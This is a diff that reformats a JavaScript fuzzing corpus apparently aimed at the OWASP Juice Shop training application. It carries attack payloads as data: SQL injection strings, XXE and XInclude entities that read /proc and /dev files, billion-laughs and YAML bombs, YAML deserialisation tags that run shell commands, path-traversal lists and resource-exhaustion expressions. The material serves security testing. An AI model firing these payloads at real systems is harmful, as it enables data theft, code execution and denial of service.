@@ -95,7 +95,9 @@ export function adversarialCorpus({ root, random }) {
     "'x'.repeat(2**28)",
     'JSON.stringify(Array(1e7).fill("x"))',
     't=[];for(;;)t.push(t)',
-    ...['DateTimeFormat', 'Collator', 'NumberFormat', 'Segmenter', 'PluralRules', 'ListFormat', 'RelativeTimeFormat'].map((kind) => `Array.from({length:60000},()=>new Intl.${kind}("en"))`),
+    ...['DateTimeFormat', 'Collator', 'NumberFormat', 'Segmenter', 'PluralRules', 'ListFormat', 'RelativeTimeFormat'].map(
+      (kind) => `Array.from({length:60000},()=>new Intl.${kind}("en"))`,
+    ),
     'for(;;)new Intl.DisplayNames("en",{type:"region"})',
     'Intl.DateTimeFormat.supportedLocalesOf(Array(1e6).fill("en-US"))',
     'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0)',
@@ -197,10 +199,7 @@ export function adversarialCorpus({ root, random }) {
     `'; VACUUM INTO '${tmpMarker}'--`,
     `' UNION SELECT * FROM Users; ATTACH DATABASE '${tmpMarker}' AS x; CREATE TABLE x.t(a)--`,
   ];
-  const search = [
-    ...sqlExpressions.flatMap((e) => [`')) OR ${e}--`, `qwert')) AND ${e}>0--`]),
-    `')); VACUUM INTO '${tmpMarker}'--`,
-  ];
+  const search = [...sqlExpressions.flatMap((e) => [`')) OR ${e}--`, `qwert')) AND ${e}>0--`]), `')); VACUUM INTO '${tmpMarker}'--`];
 
   // ---- operator selectors as the review id (PATCH and POST /rest/products/reviews)
   const selectors = [
@@ -226,9 +225,22 @@ export function adversarialCorpus({ root, random }) {
 
   // ---- layouts of the data erasure (LFR): endless or special files
   const layouts = [
-    '/proc/self/pagemap', '/dev/zero', '/dev/urandom', '/proc/self/mem', '/proc/kcore', '/dev/stdin', '/proc/self/fd/0', '/dev/fd/0',
-    '/proc/self/root/dev/zero', '/proc/self/cwd/../../../../../../dev/zero', '../../../../../../../../dev/zero', '/etc/../dev/zero', '/sys/kernel/security', '/',
-    '/proc/self/task/1/mem', '/dev/tty',
+    '/proc/self/pagemap',
+    '/dev/zero',
+    '/dev/urandom',
+    '/proc/self/mem',
+    '/proc/kcore',
+    '/dev/stdin',
+    '/proc/self/fd/0',
+    '/dev/fd/0',
+    '/proc/self/root/dev/zero',
+    '/proc/self/cwd/../../../../../../dev/zero',
+    '../../../../../../../../dev/zero',
+    '/etc/../dev/zero',
+    '/sys/kernel/security',
+    '/',
+    '/proc/self/task/1/mem',
+    '/dev/tty',
   ];
 
   // ---- uploads: XML external entities and entity expansion, YAML bombs and code tags
@@ -239,22 +251,37 @@ export function adversarialCorpus({ root, random }) {
     return `<?xml version="1.0"?><!DOCTYPE r [${dtd}]><r>&l${levels};</r>`;
   };
   const xml = [
-    entity('file:///dev/zero'), entity('file:///proc/self/mem'), entity('file:///dev/urandom'), entity('file:///proc/self/pagemap'), entity('file:///dev/stdin'),
-    entity('file:///proc/self/root/dev/zero'), entity('/dev/zero'), entity('file:///proc/self/fd/0'),
+    entity('file:///dev/zero'),
+    entity('file:///proc/self/mem'),
+    entity('file:///dev/urandom'),
+    entity('file:///proc/self/pagemap'),
+    entity('file:///dev/stdin'),
+    entity('file:///proc/self/root/dev/zero'),
+    entity('/dev/zero'),
+    entity('file:///proc/self/fd/0'),
     '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "file:///dev/zero"> %x;]><r/>',
     '<?xml version="1.0"?><r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///dev/zero" parse="text"/></r>',
-    laughs(10, 10), laughs(6, 40), laughs(30, 2),
+    laughs(10, 10),
+    laughs(6, 40),
+    laughs(30, 2),
     `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "${'x'.repeat(50_000)}">]><r>${'&a;'.repeat(30_000)}</r>`,
     `${'<a>'.repeat(25_000)}${'</a>'.repeat(25_000)}`,
     `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://${tmpMarker}">]><r>&x;</r>`,
   ];
   const yamlBomb = (levels, width) => {
     const lines = [`a0: &a0 [${Array(width).fill('"lol"').join(',')}]`];
-    for (let i = 1; i <= levels; i++) lines.push(`a${i}: &a${i} [${Array(width).fill(`*a${i - 1}`).join(',')}]`);
+    for (let i = 1; i <= levels; i++)
+      lines.push(
+        `a${i}: &a${i} [${Array(width)
+          .fill(`*a${i - 1}`)
+          .join(',')}]`,
+      );
     return lines.join('\n');
   };
   const yaml = [
-    yamlBomb(9, 9), yamlBomb(5, 60), yamlBomb(25, 2),
+    yamlBomb(9, 9),
+    yamlBomb(5, 60),
+    yamlBomb(25, 2),
     `a: &a {${Array.from({ length: 10 }, (_, i) => `k${i}: x`).join(', ')}}\n${Array.from({ length: 12 }, (_, i) => `b${i}: &b${i + 1} {<<: ${i ? `*b${i}` : '*a'}, v${i}: [${i ? `*b${i}, *b${i}, *b${i}` : '*a, *a, *a'}]}`).join('\n')}`,
     `x: !!js/function "function(){ require('child_process').execSync('${touch}') }"`,
     `x: !!python/object/apply:os.system ["${touch}"]`,
@@ -290,23 +317,54 @@ export function adversarialCorpus({ root, random }) {
 
   // ---- oversized JSON bodies, by route
   const oversizedRoutes = [
-    ['POST', '/rest/user/login'], ['POST', '/api/Users'], ['POST', '/api/Feedbacks'], ['PATCH', '/rest/products/reviews', 'bearer'], ['POST', '/b2b/v2/orders', 'bearer'],
-    ['POST', '/graphql'], ['PUT', '/rest/products/1/reviews'], ['POST', '/rest/user/data-export', 'bearer'], ['POST', '/api/BasketItems', 'bearer'],
-    ['POST', '/rest/chatbot/respond', 'bearer'], ['POST', '/dataerasure', 'cookie'], ['POST', '/api/Complaints', 'bearer'],
+    ['POST', '/rest/user/login'],
+    ['POST', '/api/Users'],
+    ['POST', '/api/Feedbacks'],
+    ['PATCH', '/rest/products/reviews', 'bearer'],
+    ['POST', '/b2b/v2/orders', 'bearer'],
+    ['POST', '/graphql'],
+    ['PUT', '/rest/products/1/reviews'],
+    ['POST', '/rest/user/data-export', 'bearer'],
+    ['POST', '/api/BasketItems', 'bearer'],
+    ['POST', '/rest/chatbot/respond', 'bearer'],
+    ['POST', '/dataerasure', 'cookie'],
+    ['POST', '/api/Complaints', 'bearer'],
   ];
   const oversizedShapes = ['string', 'array', 'keys', 'nested', 'form'];
-  const oversized = oversizedRoutes.flatMap(([method, route, auth]) => oversizedShapes.filter((shape) => shape !== 'form' || route === '/dataerasure').map((shape) => ({ method, route, auth, shape })));
+  const oversized = oversizedRoutes.flatMap(([method, route, auth]) =>
+    oversizedShapes.filter((shape) => shape !== 'form' || route === '/dataerasure').map((shape) => ({ method, route, auth, shape })),
+  );
 
   // ---- building the requests
   let auth = { bearer: {}, cookie: {} };
   const json = (method, p, body, headers = {}) => ({ method, path: p, headers: { 'content-type': 'application/json', ...headers }, body });
   const TARGETS = {
-    trackOrder: { lang: 'js', seeds: trackOrder, build: (p) => ({ method: 'GET', path: `/rest/track-order/${encodeURIComponent(p)}`, headers: {} }) },
-    productReviews: { lang: 'js', seeds: productReviews, build: (p) => ({ method: 'GET', path: `/rest/products/${encodeURIComponent(p)}/reviews`, headers: {} }) },
-    b2b: { lang: 'js', seeds: [...escapes, ...exhaustion], build: (p) => json('POST', '/b2b/v2/orders', JSON.stringify({ cid: 'fuzz', orderLinesData: p }), auth.bearer) },
+    trackOrder: {
+      lang: 'js',
+      seeds: trackOrder,
+      build: (p) => ({ method: 'GET', path: `/rest/track-order/${encodeURIComponent(p)}`, headers: {} }),
+    },
+    productReviews: {
+      lang: 'js',
+      seeds: productReviews,
+      build: (p) => ({ method: 'GET', path: `/rest/products/${encodeURIComponent(p)}/reviews`, headers: {} }),
+    },
+    b2b: {
+      lang: 'js',
+      seeds: [...escapes, ...exhaustion],
+      build: (p) => json('POST', '/b2b/v2/orders', JSON.stringify({ cid: 'fuzz', orderLinesData: p }), auth.bearer),
+    },
     login: { lang: 'sql', seeds: login, build: (p) => json('POST', '/rest/user/login', JSON.stringify({ email: p, password: 'fuzz' })) },
-    search: { lang: 'sql', seeds: search, build: (p) => ({ method: 'GET', path: `/rest/products/search?q=${encodeURIComponent(p)}`, headers: {} }) },
-    reviewEdit: { lang: 'selector', seeds: selectors, build: (p) => json('PATCH', '/rest/products/reviews', `{"id":${p},"message":"fuzz"}`, auth.bearer) },
+    search: {
+      lang: 'sql',
+      seeds: search,
+      build: (p) => ({ method: 'GET', path: `/rest/products/search?q=${encodeURIComponent(p)}`, headers: {} }),
+    },
+    reviewEdit: {
+      lang: 'selector',
+      seeds: selectors,
+      build: (p) => json('PATCH', '/rest/products/reviews', `{"id":${p},"message":"fuzz"}`, auth.bearer),
+    },
     reviewLike: { lang: 'selector', seeds: selectors, build: (p) => json('POST', '/rest/products/reviews', `{"id":${p}}`, auth.bearer) },
     erasure: {
       lang: 'path',
@@ -326,7 +384,9 @@ export function adversarialCorpus({ root, random }) {
 
   function upload(fileName, type, content) {
     const boundary = `----juicefuzz${int(1e9)}`;
-    const head = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: ${type}\r\n\r\n`);
+    const head = Buffer.from(
+      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: ${type}\r\n\r\n`,
+    );
     const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
     return {
       method: 'POST',
@@ -353,7 +413,10 @@ export function adversarialCorpus({ root, random }) {
     return big.get(shape);
   };
   function oversizedRequest({ method, route, auth: kind, shape }) {
-    const headers = { 'content-type': shape === 'form' ? 'application/x-www-form-urlencoded' : 'application/json', ...(kind ? auth[kind] : {}) };
+    const headers = {
+      'content-type': shape === 'form' ? 'application/x-www-form-urlencoded' : 'application/json',
+      ...(kind ? auth[kind] : {}),
+    };
     return { method, path: route, headers, body: bigBody(shape) };
   }
 
@@ -424,7 +487,11 @@ export function adversarialCorpus({ root, random }) {
   }
 
   // ---- mutations, by language: each keeps the payload's aim and changes its spelling or size
-  const bigger = (s) => s.replace(/\b(\d+)e(\d+)\b/g, (_, m, e) => `${m}e${Number(e) + 1}`).replace(/\b(6e4|60000)\b/g, '6e5').replace(/2\*\*(\d+)/g, (_, e) => `2**${Number(e) + 1}`);
+  const bigger = (s) =>
+    s
+      .replace(/\b(\d+)e(\d+)\b/g, (_, m, e) => `${m}e${Number(e) + 1}`)
+      .replace(/\b(6e4|60000)\b/g, '6e5')
+      .replace(/2\*\*(\d+)/g, (_, e) => `2**${Number(e) + 1}`);
   const MUTATORS = {
     js: [
       (s) => s.replaceAll('constructor', '\\u0063onstructor'),
@@ -521,7 +588,12 @@ export function adversarialCorpus({ root, random }) {
     nextCase,
     /** Logs in as Jim for the cases that need a customer (B2B orders, review edits and likes, data erasure). */
     async prepare(send) {
-      const r = await send({ method: 'POST', path: '/rest/user/login', headers: { 'content-type': 'application/json' }, body: JSON.stringify(JIM) });
+      const r = await send({
+        method: 'POST',
+        path: '/rest/user/login',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify(JIM),
+      });
       let token;
       try {
         token = JSON.parse(r.text).authentication?.token;
